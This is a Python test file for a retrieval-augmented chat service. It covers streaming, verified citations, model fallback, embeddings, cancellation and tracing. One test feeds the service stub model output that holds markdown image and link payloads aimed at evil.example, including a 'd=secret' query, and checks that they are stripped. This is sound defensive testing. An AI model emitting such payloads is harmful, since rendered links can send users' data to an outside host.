"""Language models and embeddings by configuration: streaming, verified citations, fallback, hostile output, one trace."""
import os
import sys
import unittest

import documents
from support import ROOT, Stack, eventually, read_events, register

sys.path.insert(0, os.path.join(ROOT, "tests", "support"))
from counterparts import Collector, Embeddings, Model  # noqa: E402

QUESTION = "How often does the espresso machine have to be descaled?"
QUOTE = "has to be descaled every three months"


def vector(text):
    """Two meanings: what is about cleaning, and the rest."""
    about = any(word in text.lower() for word in ("descal", "limescale", "backflush"))
    return [1.0, 0.0, 0.1] if about else [0.0, 1.0, 0.1]


class Models(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.first, cls.second, cls.traces, cls.embeddings = Model("first-model"), Model("second-model"), Collector(), Embeddings(vector)
        cls.stack = Stack(probe=False, env={
            "MILLRACE_LLM_URL": cls.first.url, "MILLRACE_LLM_MODEL": "first-model", "MILLRACE_LLM_KEY": "first-key-123456",
            "MILLRACE_LLM_URL_2": cls.second.url, "MILLRACE_LLM_MODEL_2": "second-model", "MILLRACE_LLM_STALL": "500ms",
            "MILLRACE_LLM_FIRST_BYTE": "1s", "MILLRACE_OTLP_URL": cls.traces.url, "MILLRACE_EMBEDDING_URL": cls.embeddings.url})
        cls.me = register(cls.stack.edge())
        for name in ("espresso-machine-en.docx", "shop-notice.txt"):
            answer = cls.me.upload(name, documents.sample(name))
            job = cls.me.wait_job(answer.job)
            assert job["status"] == "succeeded", job

    @classmethod
    def tearDownClass(cls):
        cls.stack.destroy()
        for server in (cls.first, cls.second, cls.traces, cls.embeddings):
            server.close()

    def setUp(self):
        self.first.script = self.second.script = ["unscripted"]
        self.first.requests.clear()
        self.second.requests.clear()

    def stream(self, question=QUESTION, **more):
        with self.me.open("POST", "/api/v1/chats/rag", {"query": question, **more}, {"Accept": "text/event-stream"}) as response:
            self.assertEqual(response.status, 200)
            events = list(read_events(response))
        self.assertEqual(events[-1]["event"], "result", events[-1])
        said = ""
        for event in events:
            said = "" if event["event"] == "restart" else said + event["data"]["text"] if event["event"] == "delta" else said
        self.assertEqual(said, events[-1]["data"]["answer"])
        return events

    def passage(self, result, words):
        return 1 + next(i for i, source in enumerate(result["sources"]) if words in source["chunk_text"])

    def test_streams_the_model_and_counts_its_tokens(self):
        self.first.script = ["Every ", "three ", "months."]
        events = self.stream()
        self.assertEqual([e["data"]["text"] for e in events if e["event"] == "delta"], ["Every ", "three ", "months."])
        self.assertEqual({**events[-1]["data"]["metadata"], "latency_ms": 0},
                         {"model": "first-model", "tokens_in": 111, "tokens_out": 22, "latency_ms": 0})
        asked = self.first.requests[0]
        self.assertEqual(asked["headers"]["Authorization"], "Bearer first-key-123456")
        self.assertIn(QUOTE, asked["body"]["messages"][1]["content"])
        self.assertEqual((asked["body"]["temperature"], asked["body"]["max_tokens"]), (0.7, 500))

    def test_only_quoted_bytes_are_cited(self):
        number = self.passage(self.stream()[-1]["data"], QUOTE)
        self.first.script = ["Every three months", f'[{number}: "{QUOTE[:10]}', f'{QUOTE[10:]}"]', f'[{number}: "every four months"]',
                             '[99: "' + QUOTE + '"]', "[7]", "."]
        events = self.stream()
        result = events[-1]["data"]
        self.assertEqual(result["answer"], f"Every three months[{number}].")
        self.assertEqual([e["data"]["quote"] for e in events if e["event"] == "citation"], [QUOTE])
        self.assertEqual([i + 1 for i, s in enumerate(result["sources"]) if s.get("cited")], [number])

    def test_hostile_output_carries_no_address(self):
        self.first.script = ["See ![x](http://evil.exa", "mple/p?d=secret) and [here](https://evil.example/a) or ht", "tps://evil.example/q?x=1 now."]
        text = self.stream()[-1]["data"]["answer"]
        self.assertNotIn("evil.example", text)
        self.assertEqual(text, "See  and here or  now.")

    def test_stalled_cut_and_refusing_models_fall_back(self):
        for script, reason in ((["It is ", "STALL"], "stall"), (["It is ", "CUT"], "cut"), ([500], "5xx"), ([401], "bad key"), ([429], "busy")):
            with self.subTest(reason):
                self.first.script, self.second.script = script, ["From the second."]
                events = self.stream()
                self.assertEqual(events[-1]["data"]["answer"], "From the second.")
                self.assertEqual(events[-1]["data"]["metadata"]["model"], "second-model")
                self.assertEqual([e["event"] for e in events].count("restart"), 1 if script[0] == "It is " else 0)
        self.assertGreaterEqual(int(self.stack.sql("SELECT count(*) FROM usage WHERE provider = 'openai' AND outcome <> 'ok'")), 5)

    def test_every_model_away_is_retried_then_given_up(self):
        self.first.script = self.second.script = [503]
        accepted = self.me.call("POST", "/api/v1/chats/rag", {"query": QUESTION}, {"Prefer": "respond-async"}).json
        job = self.me.wait_job(accepted["job_id"], 90)
        self.assertEqual((job["status"], job["attempt"]), ("dead", 3))
        self.assertEqual(self.stack.sql(f"SELECT count(*) FROM usage WHERE job_id = '{job['job_id']}' AND purpose = 'answer'"), "6")

    def test_a_named_model_goes_first_and_an_unconfigured_alias_takes_the_chain(self):
        self.first.script, self.second.script = ["first"], ["second"]
        self.assertEqual(self.stream(model="second-model")[-1]["data"]["answer"], "second")
        self.assertEqual(self.stream(model="gpt-4")[-1]["data"]["metadata"]["model"], "first-model")
        self.assertEqual(self.me.call("POST", "/api/v1/chats/rag", {"query": QUESTION, "model": "gpt-99"}).status, 422)

    def test_dense_vectors_find_what_words_do_not(self):
        self.first.script = ["ok"]
        result = self.stream("limescale?")[-1]["data"]
        self.assertIn("descaled", result["sources"][0]["chunk_text"])
        self.assertEqual(self.stack.sql("SELECT count(*) FROM chunks LEFT JOIN chunk_vectors USING (file_id, generation, chunk_index) "
                                        "WHERE embedding IS NULL"), "0")
        self.assertEqual(self.stack.sql("SELECT count(*) > 0 FROM usage WHERE purpose = 'embed' AND model = 'stub-embedding'"), "t")

    def test_a_client_that_cancels_stops_the_model(self):
        self.first.script = ["Wait ", "STALL"]
        accepted = self.me.call("POST", "/api/v1/chats/rag", {"query": QUESTION}, {"Prefer": "respond-async"}).json
        eventually(lambda: self.first.requests, what="the model to be asked")
        self.assertIn(self.me.call("DELETE", f"/api/jobs/{accepted['job_id']}").status, (200, 202))
        self.assertEqual(self.me.wait_job(accepted["job_id"])["status"], "cancelled")

    def test_one_trace_from_http_to_the_provider(self):
        trace_id = os.urandom(16).hex()
        self.first.script = ["traced"]
        answer = self.me.call("POST", "/api/v1/chats/rag", {"query": QUESTION}, {"traceparent": f"00-{trace_id}-{os.urandom(8).hex()}-01"})
        self.assertEqual(answer.status, 200)
        self.assertEqual(self.first.requests[0]["headers"]["traceparent"].split("-")[1], trace_id)

        def complete():
            spans = [s for s in self.traces.spans if s["traceId"] == trace_id]
            return spans if any(s["kind"] == 2 for s in spans) and any(s["kind"] == 3 and s["name"].startswith("chat") for s in spans) else None
        spans = {s["spanId"]: s for s in eventually(complete, 30, "the spans to be exported")}
        leaf = next(s for s in spans.values() if s["name"].startswith("chat"))
        self.assertEqual(self.first.requests[0]["headers"]["traceparent"].split("-")[2], leaf["spanId"])
        services = []
        while leaf:
            services.append(leaf["service"])
            leaf = spans.get(leaf["parentSpanId"])
        self.assertEqual((services[0], services[-1]), ("millrace-worker-rag", "millrace-edge"))


if __name__ == "__main__":
    unittest.main(verbosity=2)
